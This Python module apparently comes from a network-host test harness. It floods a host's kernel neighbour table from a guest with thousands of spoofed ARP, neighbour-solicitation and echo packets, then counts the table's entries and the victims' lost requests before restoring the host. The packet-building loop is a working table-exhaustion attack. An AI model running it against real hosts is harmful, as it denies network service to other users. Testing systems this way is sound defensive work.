"""A guest fills the host's table of neighbours.

It sends what makes the host look for addresses that are nobody's: requests for echo and for hardware addresses, from thousands of
addresses. The table is the kernel's, has room for 1,024 by default, and is shared by all bridges. Gained: a host that finds no hardware
address for its replies to victims. In the way: replies have their guest's hardware address whatever the table has; but the kernel still
wants an entry for each address. This attack has no verdict of its own but that victims are served; what it fills is printed with the
figures (neighbours in `.siege/summary.json`).
"""

import struct
import time

import attack
import space
import wire
from attack import Outcome
from field import Field
from host import Host
from puppets import invented


class Attack(attack.Attack):
    """Thousands of neighbours."""

    hosts = ("address", "redirect")
    no_proof = "the table is the kernel's, and no rule of ours is in the way"

    def attack(self, field: Field) -> None:
        """Asks the host for itself, as ever another neighbour."""
        card, number = wire.Wire(), 0
        target = "192.0.2.1" if field.family == 4 else "2001:db8:2::1"
        host = wire.ip(target)
        field.ready()
        while field.goes_on():
            for _ in range(10):
                number += 1
                link, address = invented(number, field.family)
                echo = struct.pack("!BBHHH", 8, 0, 0, 1, number & 0xFFFF)
                if field.family == 4:
                    echo = echo[:2] + struct.pack("!H", wire.checksum(echo)) + echo[4:]
                    card.send(wire.arp(wire.BROADCAST, link, 1, (link, ".".join(map(str, address))), (bytes(6), target)),
                              wire.ethernet(field.bridge, link, wire.IPV4, wire.ipv4(address, host, echo, 1)))
                else:
                    card.send(wire.discovery(field.bridge, link, (address, host), wire.solicitation(host, link)),
                              wire.discovery(field.bridge, link, (address, host), struct.pack("!BBHHH", 128, 0, 0, 1, number & 0xFFFF)))
            for _ in card.received(0.002):
                pass
        field.report["invented"] = number

    def during(self, host: Host, outcome: Outcome) -> None:
        """Counts what the table has after a while."""
        time.sleep(1.5)
        outcome.host_report["neighbours"] = len(space.call("ip", "neighbour", "show").splitlines())

    def gained(self, outcome: Outcome) -> str | None:
        """Victims that were not served."""
        return f"victims lost {outcome.lost} requests" if outcome.lost else None

    def restore(self, host: Host) -> None:
        """Empties the table."""
        host.heal()
